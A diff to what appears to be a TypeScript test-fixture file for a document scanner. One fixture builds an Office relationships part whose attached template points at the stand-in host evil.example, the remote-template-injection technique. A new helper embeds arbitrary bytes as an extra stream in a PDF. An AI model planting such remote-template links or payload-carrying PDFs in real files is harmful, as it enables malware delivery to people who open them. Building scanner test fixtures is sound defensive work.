@@ -186,3 +186,15 @@ export const WORD_PACKAGE: Record<string, string> = {
 /** A relationships part with one relationship of the given target mode attribute (as written, escapes included). */
 export const relationships = (targetMode: string) =>
   `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="${targetMode}"/></Relationships>`;
+
+/** A whole PDF (`pdf`, with a classic cross-reference table) with `bytes` as a stream object of its own, its offsets kept right. */
+export function pdfCarrying(pdf: Buffer, bytes: Buffer): Buffer {
+  const text = pdf.toString('latin1');
+  const xrefAt = text.indexOf('xref');
+  const extra = `9 0 obj\n<< /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream\nendobj\n`;
+  const startxref = Number(/startxref\s+(\d+)/.exec(text)?.[1]);
+  return Buffer.from(
+    text.slice(0, xrefAt) + extra + text.slice(xrefAt).replace(/startxref\s+\d+/, `startxref\n${startxref + extra.length}`),
+    'latin1',
+  );
+}
